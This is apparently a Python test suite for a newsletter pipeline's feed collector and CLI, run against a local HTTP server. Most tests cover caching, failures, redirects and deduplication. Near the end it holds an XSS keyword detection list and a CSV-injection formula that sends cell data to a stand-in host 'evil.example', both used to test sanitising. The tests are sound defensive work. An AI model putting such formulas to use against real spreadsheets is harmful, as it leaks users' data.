"""collect end to end against a real local HTTP server and a temporary SQLite file (or PostgreSQL: the
tests with ``engine``), and the CLI."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import Cli
from feedserver import FeedServer

from pipeline.collect import collect, writer
from pipeline.domain.models import Rendered
from pipeline.infra.fetch import Limits
from pipeline.infra.instance import load_config
from pipeline.infra.store import ItemWrites, Store

DEMO = Path(__file__).resolve().parents[1] / "pipeline" / "demo_instance"
NOW = dt.datetime(2026, 11, 26, 12, 0, tzinfo=dt.UTC)
# The local feed servers are on loopback: an internal address that collect refuses by default.
LOCAL = {"allow_private_addresses": True}
FAST = Limits(timeout=2, retries=1, backoff=0.05, **LOCAL)


def rss(*entries: tuple[str, str], title: str = "Nieuws") -> bytes:
    items = "".join(
        f"<item><title>{t}</title><link>{link}</link><pubDate>Mon, 23 Nov 2026 08:30:00 +0100</pubDate>"
        f"<description>Over {t}</description></item>"
        for t, link in entries
    )
    return (
        f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>{title}</title>'
        f"<link>https://www.example.nl/</link>{items}</channel></rss>"
    ).encode()


def instance(root: Path, feeds: dict[str, str], submissions: list[dict[str, Any]] | None = None) -> Path:
    """The demo's settings and taxonomy with one partner per feed (id -> url)."""
    config = yaml.safe_load((DEMO / "sources.yaml").read_text())
    keep = {p["id"]: p for p in config["partners"]}
    partners = []
    for i, (pid, url) in enumerate(feeds.items()):
        base = dict(
            keep.get(pid) or {"id": pid, "name": f"Partner {i}", "sector": "gemeenten", "province": "utrecht"}
        )
        base["feeds"] = [{"url": url, "kind": "story"}]
        partners.append(base)
    partners += [{k: v for k, v in p.items() if k != "feeds"} for pid, p in keep.items() if pid not in feeds]
    config["partners"] = partners
    config["sources"] = []
    config["submissions"] = submissions if submissions is not None else []
    config["newsletter"].setdefault("collect", {})["allow_private_addresses"] = True  # the local servers
    root.mkdir(parents=True, exist_ok=True)
    (root / "sources.yaml").write_text(yaml.safe_dump(config, allow_unicode=True, sort_keys=False))
    return root


def run(root: Path, only: str | None = None, limits: Limits = FAST):
    config = load_config(root)
    with Store(config.settings.database) as store:
        return collect(config, store, only=only, now=NOW, limits=limits)


def stored(root: Path) -> Store:
    return Store(load_config(root).settings.database)


@pytest.fixture
def server():
    with FeedServer() as s:
        yield s


def test_etag_and_last_modified_mean_nothing_is_downloaded_or_parsed_again(
    tmp_path: Path, server: FeedServer
):
    a = server.route("/a.rss", rss(("Fiets", "https://www.example.nl/fiets")), etag='"v1"')
    b = server.route("/b.rss", rss(("Laptop", "https://www.example.nl/laptop")),
                     last_modified="Wed, 18 Nov 2026 10:00:00 GMT")  # fmt: skip
    root = instance(tmp_path, {"gemeente-zwolle": a, "jgz-fryslan": b})
    first = run(root)
    assert first.line().startswith("2 sources: 2 fetched, 0 unchanged, 0 failed; 2 new items, 0 updated")
    second = run(root)
    assert second.line().startswith("2 sources: 0 fetched, 2 unchanged, 0 failed; 0 new items, 0 updated")
    conditional = {r.path: r.headers for r in server.requests[2:]}
    assert conditional["/a.rss"]["If-None-Match"] == '"v1"'
    assert conditional["/b.rss"]["If-Modified-Since"] == "Wed, 18 Nov 2026 10:00:00 GMT"
    assert conditional["/a.rss"]["User-Agent"].startswith("newsletter-pipeline/")


def test_an_unchanged_body_without_validators_is_not_parsed_again(tmp_path: Path, server: FeedServer):
    url = server.route("/plain.rss", rss(("Fiets", "https://www.example.nl/fiets")))
    root = instance(tmp_path, {"gemeente-zwolle": url})
    run(root)
    with stored(root) as store:
        before = store.source_state("gemeente-zwolle")
    again = run(root)
    assert again.results[0].status == "unchanged"
    assert again.results[0].items == 0  # nothing parsed
    with stored(root) as store:
        assert store.source_state("gemeente-zwolle").body_hash == before.body_hash
    server.route(
        "/plain.rss", rss(("Fiets", "https://www.example.nl/fiets"), ("Nieuw", "https://www.example.nl/n"))
    )
    third = run(root)
    assert (third.results[0].status, third.new, third.updated) == ("fetched", 1, 0)


@pytest.mark.parametrize(
    ("options", "reason"),
    [
        ({"status": 404, "body": b"weg"}, "HTTP 404 Not Found: no feed at this address; check the address in sources.yaml"),
        ({"status": 410, "body": b"weg"}, "HTTP 410 Gone: the feed was removed; remove it from sources.yaml"),
        ({"status": 500, "body": b"oeps"}, "HTTP 500 Internal Server Error: the server failed (tried 2 times)"),
        ({"body": b"<!DOCTYPE html><html><body>Welkom</body></html>", "content_type": "text/html"},
         "not a feed: got an HTML page"),
        ({"body": rss(("x", "https://x.nl/x")) * 400, "content_type": "application/rss+xml"},
         "larger than the limit of 0.1 MB (newsletter.collect.max_bytes)"),
        ({"endless": True}, "larger than the limit of 0.1 MB (newsletter.collect.max_bytes)"),
        ({"delay": 3, "body": rss(("x", "https://x.nl/x"))}, "timed out after 1 s"),
        ({"drip": 0.2, "body": rss(("x", "https://x.nl/x"))}, "timed out after 1 s"),
    ],
    ids=["404", "410", "500", "html", "too-big", "endless", "slow", "drip"],
)  # fmt: skip
def test_a_failing_source_is_reported_and_the_others_still_collected(
    tmp_path: Path, server: FeedServer, options: dict[str, Any], reason: str
):
    good = server.route("/good.rss", rss(("Fiets", "https://www.example.nl/fiets")))
    body = options.pop("body", b"")
    bad = server.route("/bad", body, **options)
    root = instance(tmp_path, {"gemeente-zwolle": good, "jgz-fryslan": bad})
    limits = Limits(timeout=1, retries=1, backoff=0.05, max_bytes=100_000, **LOCAL)
    summary = run(root, limits=limits)
    assert [(r.source, r.status, r.reason) for r in summary.failed] == [("jgz-fryslan", "failed", reason)]
    assert summary.new == 1
    assert summary.partial


def test_a_transient_error_is_retried(tmp_path: Path, server: FeedServer):
    url = server.route("/flaky.rss", rss(("Fiets", "https://www.example.nl/fiets")), fail_first=2)
    root = instance(tmp_path, {"gemeente-zwolle": url})
    summary = run(root, limits=Limits(timeout=5, retries=2, backoff=0.01, **LOCAL))
    assert (summary.count("fetched"), summary.new) == (1, 1)
    assert server.hits("/flaky.rss") == 3


def test_redirects_permanent_ones_reported_and_loops_stopped(tmp_path: Path, server: FeedServer):
    server.route("/new.rss", rss(("Fiets", "/nieuws/fiets")))
    moved = server.route("/old.rss", status=301, location="/new.rss")
    server.route("/loop-a", status=302, location="/loop-b")
    loop = server.route("/loop-b", status=302, location="/loop-a")
    root = instance(tmp_path, {"gemeente-zwolle": moved, "jgz-fryslan": loop})
    summary = run(root)
    by_source = {r.source: r for r in summary.results}
    assert by_source["gemeente-zwolle"].moved_to == server.url("/new.rss")
    assert by_source["jgz-fryslan"].reason == "more than 5 redirects (a redirect loop?): check the address"
    with stored(root) as store:
        (item,) = store.items(source="gemeente-zwolle")
        assert store.source_state("gemeente-zwolle").permanent_redirect == server.url("/new.rss")
    # Relative links resolve against where the feed really is.
    assert item.url == f"http://127.0.0.1:{server.port}/nieuws/fiets"


@pytest.mark.parametrize("encoding", ["gzip", "deflate"])
def test_compressed_responses(tmp_path: Path, server: FeedServer, encoding: str):
    url = server.route("/z.rss", rss(("Ingepakt", "https://www.example.nl/z")), encoding=encoding)
    root = instance(tmp_path, {"gemeente-zwolle": url})
    assert run(root).new == 1
    assert server.requests[0].headers["Accept-Encoding"] == "gzip, deflate"


def test_concurrency_is_bounded_per_host(tmp_path: Path, server: FeedServer):
    feeds = {}
    for i in range(8):
        feeds[f"p{i}"] = server.route(f"/f{i}.rss", rss((f"S{i}", f"https://www.example.nl/{i}")), delay=0.3)
    root = instance(tmp_path, feeds)
    summary = run(root, limits=Limits(timeout=5, per_host=4, concurrency=32, **LOCAL))
    assert summary.new == 8
    # 8 requests of 0.3 s to one host, at most 4 at a time: the server saw 4 at once, never more.
    assert server.most_at_once == 4


def test_the_same_story_in_a_feed_and_a_submission_is_one_item_and_the_yaml_wins(
    tmp_path: Path, server: FeedServer, engine: str
):
    feed = server.route(
        "/zwolle.rss",
        rss(
            (
                "Fietsplan uit de feed",
                "http://WWW.zwolle.example.nl/nieuws/fietsplan?utm_source=rss&fbclid=abc",
            )
        ),
    )
    root = instance(tmp_path, {"gemeente-zwolle": feed}, submissions=[{"path": "submissions"}])
    (root / "submissions").mkdir()
    (root / "submissions" / "fiets.yaml").write_bytes(
        (DEMO / "submissions" / "2026-11-zwolle-fietsplan.yaml").read_bytes()
    )
    first = run(root)
    assert first.new == 1
    again = run(root)  # the feed is unchanged; the YAML still wins after any order of runs
    assert again.new == again.updated == 0
    with stored(root) as store:
        (item,) = store.items()
    assert (item.origin, item.title, item.source) == (
        "submission", "Elk kind op de fiets naar school", "submissions:gemeente-zwolle",
    )  # fmt: skip
    assert item.url == "https://www.zwolle.example.nl/nieuws/fietsplan"


def test_a_changed_link_with_the_same_guid_stays_one_item(tmp_path: Path, server: FeedServer, engine: str):
    def body(link: str) -> bytes:
        return (f'<rss version="2.0"><channel><title>N</title><item><title>Fiets</title><link>{link}</link>'
                f'<guid isPermaLink="false">n-1</guid></item></channel></rss>').encode()  # fmt: skip

    url = server.route("/g.rss", body("https://www.example.nl/oud"))
    root = instance(tmp_path, {"gemeente-zwolle": url})
    run(root)
    server.route("/g.rss", body("https://www.example.nl/nieuw"))
    summary = run(root)
    assert (summary.new, summary.updated) == (0, 1)
    with stored(root) as store:
        assert [i.url for i in store.items()] == ["https://www.example.nl/nieuw"]


def test_an_entry_taking_a_link_another_item_moved_to_is_skipped_and_the_run_goes_on(
    tmp_path: Path, server: FeedServer, engine: str
):
    def body(*entries: tuple[str, str, str]) -> bytes:
        items = "".join(f'<item><title>{t}</title><link>{link}</link><guid isPermaLink="false">{g}</guid></item>'
                        for t, link, g in entries)  # fmt: skip
        return f"<rss version='2.0'><channel><title>N</title>{items}</channel></rss>".encode()

    zwolle = server.route("/z.rss", body(("Fiets", "https://www.example.nl/a", "g-a")))
    fryslan = server.route("/f.rss", body(("Ontbijt", "https://www.example.nl/c", "g-c")))
    root = instance(tmp_path, {"gemeente-zwolle": zwolle, "jgz-fryslan": fryslan})
    run(root)
    server.route("/z.rss", body(("Fiets", "https://www.example.nl/b", "g-a")))  # same guid, new link
    run(root)
    # Another source's new entry links to where the first item moved: only its own row is refused.
    server.route("/f.rss", body(("Kopie", "https://www.example.nl/b", "g-x"),
                                ("Ontbijt", "https://www.example.nl/c", "g-c"),
                                ("Laptop", "https://www.example.nl/d", "g-d")))  # fmt: skip
    summary = run(root)
    assert (summary.new, summary.count("failed")) == (1, 0)
    with stored(root) as store:
        assert sorted((i.title, i.url) for i in store.items()) == [
            ("Fiets", "https://www.example.nl/b"),
            ("Laptop", "https://www.example.nl/d"),
            ("Ontbijt", "https://www.example.nl/c"),
        ]


def test_items_in_a_sent_issue_are_never_rewritten(tmp_path: Path, server: FeedServer, engine: str):
    url = server.route("/s.rss", rss(("Origineel", "https://www.example.nl/s")))
    root = instance(tmp_path, {"gemeente-zwolle": url})
    run(root)
    with stored(root) as store:
        (item,) = store.items()
        with store.transaction():
            store.record_sent_issue(
                Rendered("2026-11", "s", "p", "h", "t", "w"), "f", [("partners", item.id)], NOW
            )
    server.route("/s.rss", rss(("Gewijzigd", "https://www.example.nl/s")))
    assert run(root).updated == 0
    with stored(root) as store:
        assert store.get_item(item.id) == item


def test_remote_submissions_good_and_bad(tmp_path: Path, server: FeedServer):
    good = server.route("/verhaal.yaml", (DEMO / "submissions" / "2026-11-zwolle-fietsplan.yaml").read_bytes(),
                        content_type="application/yaml")  # fmt: skip
    bad = server.route(
        "/kapot.yaml", b"partner: jgz-fryslan\ntitle: [niet af\n", content_type="application/yaml"
    )
    root = instance(tmp_path, {}, submissions=[{"url": good, "partner": "gemeente-zwolle"},
                                               {"url": bad, "partner": "jgz-fryslan"}])  # fmt: skip
    summary = run(root)
    assert summary.new == 1
    (failed,) = summary.failed
    assert failed.source == "submissions:jgz-fryslan"
    assert (
        failed.reason
        == "not a valid submission (not valid YAML: expected ',' or ']', but got '<stream end>' (the rest of "
        "the file is checked once this is fixed))"
    )
    assert [(p.path, p.line) for p in summary.problems] == [(bad, 3)]


def test_only_one_source(tmp_path: Path, server: FeedServer):
    a = server.route("/a.rss", rss(("A", "https://www.example.nl/a")))
    b = server.route("/b.rss", rss(("B", "https://www.example.nl/b")))
    root = instance(tmp_path, {"gemeente-zwolle": a, "jgz-fryslan": b})
    summary = run(root, only="jgz-fryslan")
    assert [r.source for r in summary.results] == ["jgz-fryslan"]
    assert server.hits("/a.rss") == 0


def test_the_database_is_consistent_after_a_crash_mid_run(
    tmp_path: Path, server: FeedServer, monkeypatch, engine: str
):
    """A crash while writing loses the whole batch, none of it half-written: items and source state stay
    together. The crash comes once every write of the batch (two sources) reached the database, before
    the commit."""
    a = server.route("/c.rss", rss(("A", "https://www.example.nl/a"), ("B", "https://www.example.nl/b")))
    b = server.route("/d.rss", rss(("C", "https://www.example.nl/c")))
    root = instance(tmp_path, {"gemeente-zwolle": a, "jgz-fryslan": b})
    sent = []
    real = ItemWrites.send

    def crash_once_sent(self):
        real(self)
        sent.append(len(self.rows))
        raise KeyboardInterrupt

    monkeypatch.setattr(ItemWrites, "send", crash_once_sent)
    monkeypatch.setattr(writer, "BATCH_SECONDS", 60.0)  # both sources in one batch
    with pytest.raises(KeyboardInterrupt):
        run(root)
    monkeypatch.undo()
    assert sent == [3]  # one batch, its three items
    with stored(root) as store:
        assert store.items() == [] and store.source_states() == {}
    assert run(root).new == 3  # and the next run simply does it


# -- the command line ---------------------------------------------------------------------------
def test_cli_collect_on_the_demo(cli):
    result = cli("collect")
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith(
        "Collected 6 sources: 6 fetched, 0 unchanged, 0 failed; 22 new items, 0 updated ("
    )
    assert result.stderr == ""
    again = cli("collect")
    assert again.stdout.startswith(
        "Collected 6 sources: 0 fetched, 6 unchanged, 0 failed; 0 new items, 0 updated ("
    )


def test_cli_collect_exit_3_names_the_source_url_and_reason(cli, demo_root: Path):
    (demo_root / "feeds" / "jgz-fryslan.atom").unlink()
    result = cli("collect")
    assert result.exit_code == 3
    assert result.stderr.splitlines() == [
        "failed: jgz-fryslan (feeds/jgz-fryslan.atom): no such file; check the path in sources.yaml"
    ]
    assert "5 fetched, 0 unchanged, 1 failed" in result.stdout


def test_cli_collect_unknown_source(cli):
    result = cli("collect", "--source", "gemeente-zwole")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        "Error: no source 'gemeente-zwole' in sources.yaml",
        "Fix: use a feed id (gemeente-zwolle, jgz-fryslan, leergeld-brabant, kenniscentrum), 'submissions', "
        "'submissions:PARTNER', 'monitoring' or 'monitoring:PARTNER'",
    ]


def test_cli_items_formats_and_filters(cli):
    assert cli("items").exit_code == 1  # nothing collected yet
    cli("collect")
    table = cli("items", "--partner", "gemeente-zwolle")
    assert table.exit_code == 0
    lines = table.stdout.splitlines()
    assert lines[0].split() == ["ID", "DATE", "PARTNER/SOURCE", "KIND", "TITLE"]
    assert len(lines) == 8  # four stories and three activities from its progress file
    assert "Elk kind op de fiets naar school" in table.stdout
    rows = json.loads(cli("items", "--theme", "meedoen", "--since", "2026-11-18", "--format", "json").stdout)
    assert {r["title"] for r in rows} >= {"Elk kind op de fiets naar school"}
    assert all(r["published"] >= "2026-11-18" for r in rows)
    csv_out = cli("items", "--kind", "research", "--format", "csv").stdout.splitlines()
    assert csv_out[0] == "id,published,partner,source,kind,themes,title,url,origin,flags"
    assert len(csv_out) == 3
    bad = cli("items", "--theme", "fietsen")
    assert bad.exit_code == 1
    assert bad.stderr.splitlines()[0] == "Error: unknown theme 'fietsen'"
    assert cli("items", "--since", "gisteren").exit_code == 2


def test_demo_hostile_entry_is_clean(cli, demo_root: Path):
    cli("collect")
    with Store(demo_root / "state" / "newsletter.sqlite3") as store:
        (item,) = [i for i in store.items(partner="gemeente-zwolle") if "Sportpas" in i.title]
    assert item.title == "Sportpas voor alle kinderen"
    for bad in ("<script", "onclick", "javascript:", "<iframe", "<style", "<form", "<!--"):
        assert bad not in item.summary_html.lower()


def test_cli_items_csv_shows_a_formula_like_title_as_text(tmp_path: Path, server: FeedServer):
    title = '=HYPERLINK("https://evil.example/?d="&amp;A1,"klik")'
    url = server.route(
        "/f.rss", rss((title, "https://www.example.nl/f"), ("Gewoon", "https://www.example.nl/g"))
    )
    root = instance(tmp_path, {"gemeente-zwolle": url})
    run(root)
    rows = list(csv.DictReader(io.StringIO(Cli(root)("items", "--format", "csv").stdout)))
    assert sorted(r["title"] for r in rows) == [
        '\'=HYPERLINK("https://evil.example/?d="&A1,"klik")',
        "Gewoon",
    ]
    as_json = json.loads(Cli(root)("items", "--format", "json").stdout)
    assert '=HYPERLINK("https://evil.example/?d="&A1,"klik")' in {r["title"] for r in as_json}
